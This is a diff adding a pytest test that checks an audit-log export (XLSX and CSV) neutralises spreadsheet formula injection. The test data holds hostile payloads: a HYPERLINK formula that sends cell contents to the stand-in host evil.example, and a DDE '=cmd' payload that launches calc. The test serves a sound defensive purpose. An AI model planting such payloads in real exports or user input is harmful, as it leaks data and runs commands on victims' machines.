@@ -164,3 +164,37 @@ def test_database_refuses_raw_update_of_the_log(trail):
         with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as cur:
             cur.execute("DELETE FROM evidence_submissiontransition WHERE id = %s", [row.pk])
         assert SubmissionTransition.objects.filter(pk=row.pk).exists()
+
+
+def test_audit_export_never_writes_a_formula(client_as, admin_user, agency_a):
+    """Names, objects and details typed by users come out as visible text in both formats
+    (formula injection, SECURITY_TESTS.md IM4), and nothing else changes."""
+    from tests.factories import UserFactory
+
+    evil = '=HYPERLINK("https://evil.example/?"&A2,"Bấm vào đây")'
+    actor = UserFactory(username="evil", full_name=evil, agency=agency_a, role="agency_staff")
+    agency_a.name = "+SUM(1,2)"
+    agency_a.save()
+    AuditEvent.objects.create(
+        actor=actor,
+        actor_role="@role",
+        agency=agency_a,
+        action="-2+3",
+        object_type="\t=1+1",
+        object_id="1",
+        object_repr="=cmd|' /C calc'!A0",
+    )
+    hostile = {evil, "+SUM(1,2)", "@role", "-2+3", "\t=1+1", "=cmd|' /C calc'!A0"}
+    c = client_as(admin_user)
+    res = c.get("/reporting/audit/export/", {"format": "xlsx", "action": "-2+3"})
+    wb = load_workbook(io.BytesIO(res.content))
+    cells = [cell for row in wb.active.iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert hostile <= {cell.value for cell in cells}  # shown exactly as typed
+    assert all(cell.quotePrefix for cell in cells if cell.value in hostile)
+    res = c.get("/reporting/audit/export/", {"format": "csv", "action": "-2+3"})
+    lines = list(csv.reader(io.StringIO(b"".join(res.streaming_content).decode("utf-8-sig"))))
+    assert len(lines) == 2
+    row = lines[1]
+    assert {"'" + h for h in hostile} <= set(row)
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)
